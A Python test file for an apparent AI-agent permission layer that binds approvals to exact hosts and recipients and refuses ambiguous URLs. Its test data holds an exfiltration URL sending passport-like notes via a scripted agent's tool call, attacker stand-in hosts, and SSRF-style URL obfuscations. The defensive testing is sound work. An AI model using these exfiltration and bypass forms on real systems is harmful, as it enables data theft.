"""Bounds never widen: a lasting approval is bound to exactly the hosts and recipients of the
action approved, or refused; a connection's hosts bound every action that uses its scopes;
every part reads a URL's host the same way (steward.sentinel.urls)."""

from __future__ import annotations

import ipaddress
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from steward.domain import ApprovalStatus, TaskStatus
from steward.domain.actions import ActionRequest, EffectClass, Verdict
from steward.domain.authority import Connection, Grant, Lifetime, Rule, RuleMode
from steward.domain.clock import SimulatedClock
from steward.errors import UsageError
from steward.harness.agent import AgentHarness
from steward.harness.tools import tool
from steward.harness.workspace import Workspace
from steward.models import ScriptedModel
from steward.models.scripted import call_tool
from steward.runtime.worker import Worker
from steward.sentinel.arguments import pinned_constraints, recipients_of, urls_of
from steward.sentinel.index import PolicySnapshot
from steward.sentinel.policy import PolicySentinel, evaluate
from steward.sentinel.urls import UrlRefused, host_key, is_public, parse_url
from steward.store import Store
from support.agents import person_with_api

NOW = datetime(2026, 1, 5, 8, 0, tzinfo=UTC)
ME = "per_me"
EXFIL = "http://127.0.0.1:9/exfil?notes=passport-C01X00T47"


# --- approve → always, through the service and a running agent -------------------------------


def fetch_rig(
    store: Store, clock: SimulatedClock, tmp_path: Path, urls: list[str]
) -> tuple[Worker, list[str]]:
    sent: list[str] = []

    @tool(effect=EffectClass.EXTERNAL, scopes=["api.call"])
    async def http_fetch(url: str) -> str:
        """Fetch a URL."""
        sent.append(url)
        return "ok"

    harness = AgentHarness(
        model=ScriptedModel([*(call_tool("http_fetch", url=u) for u in urls)]),
        workspace=Workspace(tmp_path),
        tools=[http_fetch],
        sentinel=PolicySentinel(store, clock),
    )
    return Worker(store, harness, clock, poll_seconds=None), sent


@pytest.mark.parametrize(
    ("approved", "host"),
    [
        ("https://billing_api.example.com/v1/invoices", "billing_api.example.com"),
        ("https://Bücher.example./katalog", "xn--bcher-kva.example"),
        ("http://[2001:DB8::7]:8080/status", "2001:db8::7"),
    ],
)
async def test_approve_always_binds_hosts_the_old_parser_could_not_read(
    store: Store, clock: SimulatedClock, tmp_path: Path, approved: str, host: str
) -> None:
    """Regression (H1): the standing grant made from approving an underscore, IDN or IPv6
    host carries that host, so the next call to another host (exfiltration to 127.0.0.1) asks
    instead of running."""
    worker, sent = fetch_rig(store, clock, tmp_path, [approved, EXFIL])
    svc, person = await person_with_api(store, clock)
    await svc.ask_agent(person_id=person, instructions="check the invoices")
    await worker.run_until_idle()
    [asked] = await svc.list_approvals(person_id=person)
    await svc.decide_approval(asked.id, approve=True, scope="always")
    await worker.run_until_idle()

    [grant] = await svc.list_grants(person_id=person)
    assert grant.constraints["hosts"] == [host]  # and the exact URL, method and all
    assert sent == [approved]  # the exfiltration did not run...
    [pending] = await svc.list_approvals(person_id=person)
    assert pending.args["url"] == EXFIL  # ...it waits for the person


@pytest.mark.parametrize("scope", ["always", "task", "hours"])
@pytest.mark.parametrize(
    ("args", "why"),
    [
        ({"url": "http://ada@127.0.0.1/x"}, "user information"),
        ({"url": "http://127.1/x"}, "ambiguous form"),
        ({"to": "Ada <ada@x.io>"}, "not one plain address"),
        ({"to": "ada@x.io, mallory@evil.example"}, "not one plain address"),
        ({"text": "hello"}, "names no recipient or URL"),
        ({"to": "shop@x.io", "amount": "20 EUR"}, "not a plain number"),
    ],
)
async def test_a_lasting_approval_that_cannot_be_bound_is_refused_and_once_still_works(
    store: Store, clock: SimulatedClock, tmp_path: Path, scope: str, args: dict[str, Any], why: str
) -> None:
    sent: list[dict[str, Any]] = []

    @tool(effect=EffectClass.EXTERNAL, scopes=["api.call"])
    async def act(
        url: str | None = None,
        to: str | None = None,
        text: str | None = None,
        amount: str | None = None,
    ) -> str:
        """Do something outside."""
        sent.append({"url": url, "to": to, "text": text, "amount": amount})
        return "done"

    harness = AgentHarness(
        model=ScriptedModel([call_tool("act", **args), call_tool("finish", result="ok")]),
        workspace=Workspace(tmp_path),
        tools=[act],
        sentinel=PolicySentinel(store, clock),
    )
    worker = Worker(store, harness, clock, poll_seconds=None)
    svc, person = await person_with_api(store, clock)
    task = await svc.ask_agent(person_id=person, instructions="do it")
    await worker.run_until_idle()
    [asked] = await svc.list_approvals(person_id=person)

    with pytest.raises(UsageError, match=why):
        await svc.decide_approval(asked.id, approve=True, scope=scope, hours=1)
    assert (await svc.get_approval(asked.id)).status is ApprovalStatus.PENDING
    assert await svc.list_grants(person_id=person) == []
    assert sent == []

    await svc.decide_approval(asked.id, approve=True, scope="once")
    await worker.run_until_idle()
    assert len(sent) == 1
    assert (await store.tasks.get_task(task.id)).status is TaskStatus.SUCCEEDED


def test_a_lasting_approval_of_a_payment_is_bound_to_its_payee_and_at_most_its_amount() -> None:
    pinned = pinned_constraints({"to": "Shop@X.io", "amount": "20"})
    assert pinned == {"recipients": ["shop@x.io"], "max_amount": 20.0}
    made = replace(grant({"tool": "pay", **pinned}), scopes=("payment.send",))
    bank = connection(scopes=("payment.send",))

    def pay(to: str, amount: float) -> Verdict:
        request = replace(
            fetch("", tool_name="pay", scopes=("payment.send",)), args={"to": to, "amount": amount}
        )
        return evaluate(request, snapshot([bank], [made]), now=NOW, session_id=None).verdict

    assert pay("shop@x.io", 20) is Verdict.ALLOW
    assert pay("shop@x.io", 20.01) is Verdict.ASK
    assert pay("mallory@x.io", 5) is Verdict.ASK


# --- the connection's hosts -----------------------------------------------------------------


def connection(*hosts: str, scopes: tuple[str, ...] = ("api.call",)) -> Connection:
    return Connection(
        id=f"con_{'_'.join(hosts) or 'any'}",
        person_id=ME,
        kind="http",
        name="api",
        scopes=scopes,
        hosts=hosts,
        created_at=NOW,
    )


def snapshot(
    connections: list[Connection],
    grants: list[Grant] | None = None,
    rules: list[Rule] | None = None,
) -> PolicySnapshot:
    return PolicySnapshot(
        person_id=ME,
        taken_at=NOW,
        connections=tuple(connections),
        grants=tuple(grants or ()),
        rules=tuple(rules or ()),
    )


def fetch(
    url: Any, *, tool_name: str = "http_fetch", scopes: tuple[str, ...] = ("api.call",)
) -> ActionRequest:
    return ActionRequest(
        person_id=ME,
        task_id="tsk_1",
        goal_id=None,
        tool=tool_name,
        args={"url": url},
        effect=EffectClass.EXTERNAL,
        scopes=scopes,
        source="python",
        wake_reason="start",
    )


def grant(constraints: dict[str, Any] | None = None) -> Grant:
    return Grant(
        id="grt_any",
        person_id=ME,
        scopes=("api.call",),
        lifetime=Lifetime.STANDING,
        constraints=constraints or {},
        issued_by="person",
        created_at=NOW,
    )


DO_ALL = Rule(id="rul_do", person_id=ME, pattern="*", mode=RuleMode.DO, priority=9, created_at=NOW)


def test_a_connections_hosts_bound_every_action_whatever_grants_and_rules_say() -> None:
    """Regression (H1): Connection.hosts was never read; an action on another host ran."""
    snap = snapshot([connection("api.example.com")], [grant()], [DO_ALL])
    denied = evaluate(fetch("https://evil.example/collect"), snap, now=NOW, session_id=None)
    assert (denied.verdict, denied.basis) == (Verdict.DENY, "connection")
    assert "evil.example" in denied.reason
    for same in ("https://API.example.com./v1", "https://api.example.com:8443/x"):
        assert evaluate(fetch(same), snap, now=NOW, session_id=None).verdict is Verdict.ALLOW
    # a URL that cannot be read one way only cannot be held to the bound: denied
    for unreadable in ("https://api.example.com@evil.example/", "https://api.example.com\\@x/", 7):
        decided = evaluate(fetch(unreadable), snap, now=NOW, session_id=None)
        assert (decided.verdict, decided.basis) == (Verdict.DENY, "connection")


def test_hosts_of_several_connections_add_up_and_one_without_hosts_does_not_bound() -> None:
    two = snapshot([connection("a.example"), connection("b.example")], [grant()])
    assert evaluate(fetch("https://b.example/"), two, now=NOW, session_id=None).verdict is (
        Verdict.ALLOW
    )
    assert evaluate(fetch("https://c.example/"), two, now=NOW, session_id=None).verdict is (
        Verdict.DENY
    )
    open_too = snapshot([connection("a.example"), connection()], [grant()])
    assert evaluate(fetch("https://c.example/"), open_too, now=NOW, session_id=None).verdict is (
        Verdict.ALLOW
    )
    # a connection's host written as a U-label or in brackets matches the URL's A-label form
    idn = snapshot([connection("Bücher.example", "[::1]")], [grant()])
    for url in ("https://xn--bcher-kva.example/", "http://[::1]:8080/"):
        assert evaluate(fetch(url), idn, now=NOW, session_id=None).verdict is Verdict.ALLOW


def test_hard_limits_still_come_first() -> None:
    snap = snapshot([connection("api.example.com")], [grant()])
    decided = evaluate(
        fetch("https://evil.example/", tool_name="change_password"), snap, now=NOW, session_id=None
    )
    assert decided.basis == "hard-limit:account.password"


# --- one reading of a URL -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://billing_api.example.com/x", "billing_api.example.com"),
        ("HTTPS://EXAMPLE.com./a", "example.com"),
        ("https://bücher.example/", "xn--bcher-kva.example"),
        ("http://[::FFFF:127.0.0.1]/", "::ffff:7f00:1"),
        ("http://127.0.0.1:8080/", "127.0.0.1"),
    ],
)
def test_hosts_are_normalised(url: str, host: str) -> None:
    assert parse_url(url).host == host


@pytest.mark.parametrize(
    "url",
    [
        "http://user:pw@example.com/",
        "http://example.com\\@evil.example/",
        "http://127.1/",
        "http://0x7f.0.0.1/",
        "http://0177.0.0.1/",
        "http://2130706433/",
        "http://%31%32%37.0.0.1/",
        "http://[fe80::1%25eth0]/",
        "http://a..b/",
        "http://exa mple.com/",
        "ftp://example.com/",
        "example.com/path",
        "http:///path",
        "http://\uff25\uff38\uff21\uff2d\uff30\uff2c\uff25.com/",  # full-width letters
    ],
)
def test_urls_two_parsers_could_read_differently_are_refused(url: str) -> None:
    with pytest.raises(UrlRefused):
        parse_url(url)
    assert urls_of({"url": url}) is None


@pytest.mark.parametrize(
    ("address", "public"),
    [
        ("8.8.8.8", True),
        ("2606:4700::1111", True),
        ("127.0.0.1", False),
        ("10.1.2.3", False),
        ("172.16.0.1", False),
        ("192.168.1.1", False),
        ("100.64.0.1", False),  # CGNAT
        ("169.254.169.254", False),  # link-local (cloud metadata)
        ("0.0.0.0", False),
        ("224.0.1.1", False),  # multicast
        ("::1", False),
        ("::", False),
        ("fd00::1", False),  # ULA
        ("fe80::1", False),
        ("ff02::1", False),
        ("::ffff:127.0.0.1", False),  # IPv4-mapped
        ("2002:7f00:1::", False),  # 6to4 of 127.0.0.1
        ("64:ff9b::a00:1", False),  # NAT64 of 10.0.0.1
        ("::127.0.0.1", False),  # IPv4-compatible (deprecated)
        ("::8.8.8.8", False),  # IPv4-compatible reaches no host as such
        ("64:ff9b:1::8.8.8.8", False),  # local-use NAT64: a translator on this network
        ("64:ff9b:1::1", False),
        ("fec0::1", False),  # site-local (deprecated)
        ("feff:ffff::1", False),  # the end of site-local
        ("64:ff9b::808:808", True),  # well-known NAT64 of 8.8.8.8
    ],
)
def test_public_addresses(address: str, public: bool) -> None:
    assert is_public(ipaddress.ip_address(address)) is public


# --- properties over policy.evaluate --------------------------------------------------------

LABEL = st.text(alphabet=st.sampled_from("abcxyzABCZ019_-üéßñ"), min_size=1, max_size=12).filter(
    lambda s: not s.startswith("-") and not s.endswith("-")
)
NAMES = st.lists(LABEL, min_size=1, max_size=4).map(".".join)
IPV4 = st.ip_addresses(v=4).map(str)
IPV6 = st.ip_addresses(v=6).map(lambda a: f"[{a}]")
HOSTS = st.one_of(NAMES, NAMES.map(lambda h: h + "."), NAMES.map(str.upper), IPV4, IPV6)
PATHS = st.sampled_from(["/", "/v1/items", "/exfil?notes=x", ""])
EXAMPLES = 300


def _host_or_none(url: str) -> str | None:
    found = urls_of({"url": url})
    return found[0].host if found else None


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    approved=HOSTS,
    other=HOSTS,
    path=PATHS,
    other_path=PATHS,
    bounded=st.booleans(),
    again=st.booleans(),
)
def test_a_grant_made_from_an_approval_never_covers_another_host(
    approved: str, other: str, path: str, other_path: str, bounded: bool, again: bool
) -> None:
    """Whatever host was approved (or refused), the grant built from it allows an action only
    on the very host the approval named, read the same way. (``again``: the next action
    names the approved host as written, so allowing is exercised too.)"""
    other = approved if again else other
    approved_url, other_url = f"https://{approved}{path}", f"http://{other}{other_path}"
    try:
        pinned = pinned_constraints({"url": approved_url})
    except UsageError:
        assert _host_or_none(approved_url) is None  # refused only what cannot be read
        return
    made = grant({"tool": "http_fetch", **pinned})
    conn = connection(_host_or_none(approved_url) or "") if bounded else connection()
    decided = evaluate(fetch(other_url), snapshot([conn], [made]), now=NOW, session_id=None)
    if decided.verdict is Verdict.ALLOW:
        assert _host_or_none(other_url) == _host_or_none(approved_url)


RECIPIENTS = st.one_of(
    st.builds(lambda local, host: f"{local}@{host}", LABEL, NAMES),
    st.builds(lambda local, host: f"{local} <{local}@{host}>", LABEL, NAMES),
    st.builds(lambda a, b: f"{a}@x.io, {b}@y.io", LABEL, LABEL),
)


@settings(max_examples=EXAMPLES, deadline=None)
@given(approved=RECIPIENTS, other=RECIPIENTS, again=st.booleans())
def test_a_grant_made_from_an_approval_never_covers_another_recipient(
    approved: str, other: str, again: bool
) -> None:
    other = approved.upper() if again else other
    mail = connection(scopes=("email.send",))
    try:
        pinned = pinned_constraints({"to": approved})
    except UsageError:
        assert recipients_of({"to": approved}) is None
        return
    made = replace(grant({"tool": "send_email", **pinned}), scopes=("email.send",))
    request = ActionRequest(
        person_id=ME,
        task_id="tsk_1",
        goal_id=None,
        tool="send_email",
        args={"to": other},
        effect=EffectClass.EXTERNAL,
        scopes=("email.send",),
        source="python",
        wake_reason="start",
    )
    decided = evaluate(request, snapshot([mail], [made]), now=NOW, session_id=None)
    if decided.verdict is Verdict.ALLOW:
        assert recipients_of({"to": other}) == recipients_of({"to": approved})


@settings(max_examples=EXAMPLES, deadline=None)
@given(
    bound=st.lists(HOSTS, min_size=1, max_size=3),
    host=HOSTS,
    rule=st.sampled_from([None, RuleMode.DO, RuleMode.DO_IF_PREAPPROVED, RuleMode.ASK]),
    granted=st.booleans(),
    named=st.booleans(),
)
def test_a_connection_bound_holds_whatever_rules_and_grants_say(
    bound: list[str], host: str, rule: RuleMode | None, granted: bool, named: bool
) -> None:
    """Whatever rules and grants say, an action that is not denied names a host of the
    connection (``named``: it names the first one as written, so passing is exercised too)."""
    url = f"https://{bound[0] if named else host}/x"
    rules = (
        [] if rule is None else [Rule(id="r", person_id=ME, pattern="*", mode=rule, created_at=NOW)]
    )
    snap = snapshot([connection(*bound)], [grant()] if granted else [], rules)
    decided = evaluate(fetch(url), snap, now=NOW, session_id=None)
    if decided.verdict is not Verdict.DENY:
        readable = _host_or_none(url)
        assert readable is not None
        assert readable in {host_key(b) for b in bound}
